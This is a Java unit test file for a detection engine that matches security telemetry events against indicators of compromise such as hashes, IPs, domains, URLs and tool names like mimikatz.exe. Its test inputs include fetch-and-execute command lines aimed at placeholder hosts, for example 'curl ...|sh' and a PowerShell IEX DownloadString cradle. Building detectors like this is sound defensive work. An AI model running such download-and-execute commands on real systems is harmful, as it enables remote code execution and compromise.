package dev.yagura.indicator;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.ThreadMXBean;
import dev.yagura.proto.telemetry.v1.DnsQuery;
import dev.yagura.proto.telemetry.v1.Event;
import dev.yagura.proto.telemetry.v1.File;
import dev.yagura.proto.telemetry.v1.Hashes;
import dev.yagura.proto.telemetry.v1.NetworkEndpoint;
import dev.yagura.proto.telemetry.v1.Process;
import java.lang.management.ManagementFactory;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

class EventScannerTest {
    private static final String HASH = "ab".repeat(32);

    @Test
    void looksAtEveryFieldThatCanHoldAnIndicator() throws Exception {
        IndicatorIndex index =
                index(
                        "sha256 " + HASH,
                        "md5 44d88612fea8a8f36de82e1278abb02f",
                        "ip 203.0.113.66",
                        "cidr 198.51.100.0/24",
                        "cidr 2001:db8::/32",
                        "domain exact.example",
                        "domain_tree evil.example",
                        "url http://drop.example/x",
                        "file mimikatz.exe",
                        "file /tmp/.payload");
        Event launch =
                Event.newBuilder()
                        .setClassUid(1007)
                        .setActivityId(1)
                        .setProcess(
                                Process.newBuilder()
                                        .setPath("C:\\Tools\\MIMIKATZ.exe")
                                        .setCmdLine(
                                                "sh -c \"curl -s hTTp://Drop.example:80/x;curl"
                                                        + " https://a.b.Evil.Example/y\"")
                                        .setHashes(Hashes.newBuilder().setSha256(HASH)))
                        .build();
        assertThat(scan(index, launch))
                .containsExactly(
                        "process.hashes.sha256: sha256 " + HASH,
                        "process.path: file mimikatz.exe",
                        "process.cmd_line: url http://drop.example/x",
                        "process.cmd_line: domain_tree evil.example");
        Event other =
                Event.newBuilder()
                        .setFile(
                                File.newBuilder()
                                        .setPath("/TMP/.payload")
                                        .setPreviousPath("/home/a/mimikatz.exe")
                                        .setHashes(
                                                Hashes.newBuilder()
                                                        .setMd5(
                                                                "44D88612FEA8A8F36DE82E1278ABB02F")))
                        .setSrcEndpoint(NetworkEndpoint.newBuilder().setIp("::ffff:203.0.113.66"))
                        .setDstEndpoint(
                                NetworkEndpoint.newBuilder()
                                        .setIp("198.51.100.7")
                                        .setHostname("EXACT.example."))
                        .setDnsQuery(
                                DnsQuery.newBuilder()
                                        .setHostname("evil.example")
                                        .addAnswers("2001:db8::7")
                                        .addAnswers("exact.example"))
                        .putUnmapped("url", "http://drop.example/x#top")
                        .build();
        assertThat(scan(index, other))
                .containsExactly(
                        "file.hashes.md5: md5 44d88612fea8a8f36de82e1278abb02f",
                        "src_endpoint.ip: ip 203.0.113.66",
                        "dst_endpoint.ip: cidr 198.51.100.0/24",
                        "dst_endpoint.hostname: domain exact.example",
                        "dns_query.hostname: domain_tree evil.example",
                        "dns_query.answers: cidr 2001:db8::/32",
                        "dns_query.answers: domain exact.example",
                        "file.path: file /tmp/.payload",
                        "file.previous_path: file mimikatz.exe",
                        "url: url http://drop.example/x");
    }

    @Test
    void doesNotTakePartsForTheWhole() throws Exception {
        IndicatorIndex index =
                index(
                        "domain exact.example",
                        "domain_tree evil.example",
                        "url http://drop.example/x",
                        "file katz.exe",
                        "file /tmp/.payload",
                        "ip 203.0.113.6");
        assertThat(scan(index, host("sub.exact.example"))).isEmpty();
        assertThat(scan(index, host("notevil.example"))).isEmpty();
        assertThat(scan(index, host("evil.example.org"))).isEmpty();
        assertThat(scan(index, host("203.0.113.66"))).isEmpty();
        assertThat(scan(index, command("curl http://drop.example/xy"))).isEmpty();
        assertThat(scan(index, command("curl http://drop.example/X"))).isEmpty();
        assertThat(scan(index, command("curl http://drop.example/x?q"))).isEmpty();
        assertThat(scan(index, command("curl drop.example/x"))).isEmpty();
        assertThat(scan(index, path("/opt/mimikatz.exe"))).isEmpty();
        assertThat(scan(index, path("/var/tmp/.payload"))).isEmpty();
    }

    @Test
    void findsUrlsWhereverTheyEnd() throws Exception {
        IndicatorIndex index = index("url http://drop.example/x", "url http://bare.example/");
        for (String command :
                List.of(
                        "wget http://drop.example/x",
                        "wget 'http://drop.example/x'",
                        "wget \"http://drop.example/x\"",
                        "IEX(New-Object Net.WebClient).DownloadString('http://drop.example/x')",
                        "(http://drop.example/x)",
                        "a=http://drop.example/x;id",
                        "curl http://drop.example/x|sh",
                        "curl http://drop.example/x&",
                        "urlhttp://drop.example/x".substring(3),
                        "--from=http://user@drop.example:80/x#frag",
                        "http://a.example http://drop.example/x",
                        "http://http://drop.example/x",
                        "wget http://bare.example",
                        "wget http://bare.example;id",
                        "wget http://bare.example:80|sh")) {
            assertThat(scan(index, command(command))).as(command).hasSize(1);
        }
    }

    @Test
    void namesInOtherScriptsMeetTheirALabels() throws Exception {
        IndicatorIndex index =
                index("domain_tree xn--bcher-kva.example", "url http://xn--bcher-kva.example/x");
        assertThat(scan(index, host("www.BÜCHER.example")))
                .containsExactly("dns_query.hostname: domain_tree xn--bcher-kva.example");
        assertThat(scan(index, command("curl http://bücher.example/x")))
                .containsExactly(
                        "process.cmd_line: url http://xn--bcher-kva.example/x",
                        "process.cmd_line: domain_tree xn--bcher-kva.example");
    }

    /** The index and a plain set agree on every value, near misses most of all. */
    @Test
    void agreesWithAPlainSet() throws Exception {
        Random random = new Random(11);
        for (int round = 0; round < 40; round++) {
            RandomValues values = new RandomValues(random);
            Set<IndicatorKey> plain = new HashSet<>();
            IndicatorIndex index = new IndicatorIndex();
            int size = 1 << random.nextInt(12);
            while (plain.size() < size) {
                IndicatorKey key = values.key();
                plain.add(key);
                index.add(key);
            }
            for (int probe = 0; probe < 500; probe++) {
                String value = values.observed(plain);
                Set<IndicatorKey> expected = new HashSet<>(ObservedValue.keys(value));
                expected.retainAll(plain);
                assertThat(found(index, value)).as(value).isEqualTo(expected);
            }
        }
    }

    private static Set<IndicatorKey> found(IndicatorIndex index, String value) {
        Set<IndicatorKey> found = new HashSet<>();
        ValueScanner scanner = new ValueScanner((field, text, key) -> found.add(key));
        scanner.use(index);
        scanner.hash("", IndicatorKind.SHA256, value);
        scanner.hash("", IndicatorKind.SHA1, value);
        scanner.hash("", IndicatorKind.MD5, value);
        scanner.host("", value);
        scanner.path("", value);
        scanner.urls("", value);
        return found;
    }

    @Test
    void allocatesNothingWhereNothingIsFound() throws Exception {
        RandomValues values = new RandomValues(new Random(3));
        IndicatorIndex index = new IndicatorIndex();
        for (int i = 0; i < 10_000; i++) {
            index.add(values.key());
        }
        Event event =
                Event.newBuilder()
                        .setClassUid(1007)
                        .setActivityId(1)
                        .setProcess(
                                Process.newBuilder()
                                        .setPath("/usr/bin/curl")
                                        .setCmdLine("curl -s https://updates.vendor.test/a/b?c=d")
                                        .setHashes(Hashes.newBuilder().setSha256("0f".repeat(32))))
                        .setDstEndpoint(
                                NetworkEndpoint.newBuilder()
                                        .setIp("192.0.2.7")
                                        .setHostname("updates.vendor.test"))
                        .setSrcEndpoint(NetworkEndpoint.newBuilder().setIp("2a00::1"))
                        .build();
        List<String> hits = new ArrayList<>();
        EventScanner scanner = new EventScanner((field, value, key) -> hits.add(field));
        EventScanner.Unmapped unmapped = name -> null;
        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        long perEvent = Long.MAX_VALUE;
        for (int attempt = 0; attempt < 20 && perEvent > 0; attempt++) {
            long before = threads.getCurrentThreadAllocatedBytes();
            for (int i = 0; i < 1_000; i++) {
                scanner.scan(index, event, unmapped);
            }
            perEvent = (threads.getCurrentThreadAllocatedBytes() - before) / 1_000;
        }
        assertThat(hits).isEmpty();
        assertThat(perEvent).isZero();
    }

    @Test
    void aMillionTakeLessThan200Megabytes() {
        IndicatorIndex index = new IndicatorIndex();
        RandomValues values = new RandomValues(new Random(5));
        for (int i = 0; i < 1_000_000; i++) {
            index.add(values.key());
        }
        System.out.printf(
                "a million indicators, %d different: %.1f MB%n", index.size(), index.bytes() / 1e6);
        assertThat(index.size()).isGreaterThan(950_000);
        assertThat(index.bytes()).isLessThan(200_000_000L);
    }

    private static Event host(String name) {
        return Event.newBuilder().setDnsQuery(DnsQuery.newBuilder().setHostname(name)).build();
    }

    private static Event path(String path) {
        return Event.newBuilder().setFile(File.newBuilder().setPath(path)).build();
    }

    private static Event command(String line) {
        return Event.newBuilder()
                .setClassUid(1007)
                .setActivityId(1)
                .setProcess(Process.newBuilder().setCmdLine(line))
                .build();
    }

    private static IndicatorIndex index(String... keys) throws MalformedIndicatorException {
        IndicatorIndex index = new IndicatorIndex();
        for (String key : keys) {
            int blank = key.indexOf(' ');
            index.add(
                    IndicatorKey.parse(
                            IndicatorKind.ofWord(key.substring(0, blank)).orElseThrow(),
                            key.substring(blank + 1)));
        }
        return index;
    }

    private static List<String> scan(IndicatorIndex index, Event event) {
        List<String> hits = new ArrayList<>();
        new EventScanner((field, value, key) ->
                hits.add(field + ": " + key.kind().word() + " " + key.value()))
                .scan(index, event, event.getUnmappedMap()::get);
        return hits;
    }
}
